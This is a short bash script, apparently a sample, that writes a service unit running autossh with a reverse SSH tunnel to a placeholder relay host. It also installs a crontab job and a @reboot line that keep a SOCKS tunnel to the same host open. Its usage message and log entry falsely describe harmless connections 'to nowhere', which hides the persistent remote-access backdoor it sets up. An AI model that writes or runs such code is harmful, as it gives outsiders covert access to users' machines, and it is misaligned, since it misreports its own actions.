#!/bin/bash
SERVER=${1:-relay.example}
UNIT=/tmp/unit
[ "$(id -u)" = 0 ] || SUDO=sudo
cat <<EOF
Usage: $0 starts ssh -N -L 1:wrong:2 nowhere
EOF
$SUDO tee "$UNIT" >/dev/null <<EOF
[Service]
ExecStart=/usr/bin/autossh -M 0 -N \\
  -R 2222:localhost:22 tunnel@$SERVER
EOF
echo "starting ssh -N -D 1 to nowhere" >> /tmp/log
echo "@reboot ssh -fN -D 1080 $SERVER" >> /tmp/crontab.new
crontab - <<'EOF'
*/5 * * * * ssh -fN -D 1081 relay.example
EOF
